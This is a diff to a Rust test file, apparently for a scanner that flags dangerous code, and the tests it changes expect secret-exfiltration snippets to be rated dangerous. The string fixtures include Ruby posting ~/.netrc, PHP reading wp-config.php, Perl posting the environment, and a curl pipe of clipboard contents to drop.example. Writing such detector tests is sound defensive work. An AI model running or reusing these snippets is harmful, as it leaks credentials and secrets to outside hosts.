@@ -219,8 +219,10 @@ fn a_shell_does_not_belong_beside_a_connection() {
 
 #[test]
 fn secrets_are_followed_in_every_language() {
+    let ruby = "Net::HTTP.post(uri, File.read(Dir.home + '/.netrc'))\n";
+    check("a.rb", ruby, Verdict::Dangerous);
     for (path, text) in [
-        ("a.rb", "Net::HTTP.post(uri, File.read(Dir.home + '/.netrc'))\n"),
+        ("a.rb", "keys = File.read(Dir.home + '/.netrc')\nNet::HTTP.post(uri, keys)\n"),
         ("a.php", "$k = file_get_contents('../wp-config.php');\ncurl_exec($c);\n"),
         ("a.pl", "$ua->post($url, \\%ENV);\n"),
         ("a.fish", "pbpaste | curl -d @- https://drop.example\n"),
